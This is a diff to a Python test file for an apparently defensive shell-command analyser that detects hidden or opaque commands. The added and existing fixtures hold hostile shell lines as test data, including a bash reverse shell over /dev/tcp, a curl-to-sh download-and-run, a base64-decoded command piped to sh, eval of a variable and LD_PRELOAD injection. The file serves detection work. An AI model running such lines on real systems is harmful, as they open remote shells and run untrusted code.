@@ -47,6 +47,9 @@ def test_every_hidden_command_is_found_or_opaque(case: dict[str, list[str] | str
         ("echo aWQ= | base64 -d | sh", ["echo", "base64", "sh", "id"]),
         ("echo id > x; sh ./x", ["echo", "sh", "x", "id"]),
         ('f() { "$@"; }; f id', ["f", "id"]),
+        ('a=(ls "x y"); a+=(z); "${a[@]}"', ["ls"]),
+        ('a=(); "${a[@]}" id', ["id"]),
+        ('a=id; "$a"', ["id"]),
         ("cat <<'E' > s\nid\nE\nbash s", ["cat", "bash", "s", "id"]),
     ],
 )
@@ -61,6 +64,10 @@ def test_commands_are_found_in_order(text: str, found: list[str]) -> None:
     [
         ("$x", "which program runs"),
         ("/usr/bin/i?", "which program runs"),
+        ('a=($x); "${a[@]}"', "which program runs"),
+        ("bash -i 5<>/dev/tcp/192.0.2.1/1 <&5", "reads its commands from"),
+        ('a=(ls); eval "$x"; "${a[@]}"', "which program runs"),
+        ('a=(ls); true && a=(id); "${a[@]}"', "which program runs"),
         ("curl -s http://x | sh", "reads its commands from"),
         ('eval "$x"', "the text that eval runs"),
         ("LD_PRELOAD=./x.so ls", "LD_PRELOAD"),
